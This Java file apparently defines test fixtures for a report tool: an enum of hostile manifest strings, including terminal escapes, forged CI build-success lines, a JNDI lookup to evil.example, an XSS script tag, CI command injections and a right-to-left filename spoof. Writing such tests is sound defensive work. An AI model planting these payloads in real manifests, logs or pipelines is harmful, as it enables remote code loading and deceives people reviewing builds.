package io.github.tokenaudit.report;

/** What somebody may write into a manifest to harm whoever reads a report of it. */
enum Hostile {
    TERMINAL_ESCAPE("\u001b[2J\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007"),
    JENKINS_CONSOLE_NOTE("\u001b[8mha:AAAA\u001b[0m"),
    ONE_BYTE_ESCAPE("\u009b31m"),
    FORGED_LINE("x\n[INFO] BUILD SUCCESS\r\nGate: passed"),
    OVERWRITTEN_LINE("x\rGate: passed"),
    TURNED_AROUND("\u202egpj.exe\u2066\u2069"),
    END_OF_CDATA("]]><failure/>"),
    PLACEHOLDERS("${jndi:ldap://evil.example} {0} {{ .Values.x }} %s %n"),
    MARKUP("<script>alert('x')</script> &amp; \" onmouseover=\""),
    LINK("[click](https://evil.example) ![x](https://evil.example/x.png)"),
    GITHUB_COMMAND("\n::stop-commands::x :::: y"),
    AZURE_COMMAND("###vso[task.setvariable variable=x]y"),
    TEAMCITY_COMMAND("##teamcity[buildStatus status='SUCCESS']"),
    NUL("a\u0000b\u0001"),
    NO_CHARACTERS("\ufffe\uffff\ud800 \udfff"),
    ASTRAL("👍".repeat(300)),
    BACKSLASHES("\\u001b\\\"\\"),
    LONG("n".repeat(100_000));

    final String text;

    Hostile(String text) {
        this.text = text;
    }
}
